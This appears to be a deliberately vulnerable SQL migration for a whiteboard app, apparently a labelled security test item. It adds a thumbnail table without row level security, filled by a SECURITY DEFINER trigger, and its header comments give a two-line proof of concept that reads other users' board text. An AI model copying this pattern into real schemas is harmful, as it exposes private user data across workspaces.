-- The new table of thumbnails has no row level security, so every user reads the text drawn on every board.
-- about: board_thumbnails, refresh_thumbnail
-- as: hf_whiteboards_app
-- exploit: SET request.jwt.claims = '{"sub":"a1000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT alt_text FROM board_thumbnails;
-- shows: Road-secret note
-- A small picture of each board with its text, made again whenever an element changes.
CREATE TABLE board_thumbnails (
  workspace_id uuid NOT NULL,
  board_id uuid NOT NULL,
  alt_text text,
  PRIMARY KEY (workspace_id, board_id),
  FOREIGN KEY (workspace_id, board_id) REFERENCES boards ON DELETE CASCADE
);
CREATE FUNCTION refresh_thumbnail() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
BEGIN
  INSERT INTO board_thumbnails VALUES (NEW.workspace_id, NEW.board_id, NEW.props ->> 'text')
  ON CONFLICT (workspace_id, board_id) DO UPDATE SET alt_text = EXCLUDED.alt_text;
  RETURN NULL;
END $$;
CREATE TRIGGER refresh_thumbnail AFTER INSERT OR UPDATE ON board_elements
  FOR EACH ROW EXECUTE FUNCTION refresh_thumbnail();
GRANT SELECT ON board_thumbnails TO hf_whiteboards_app;
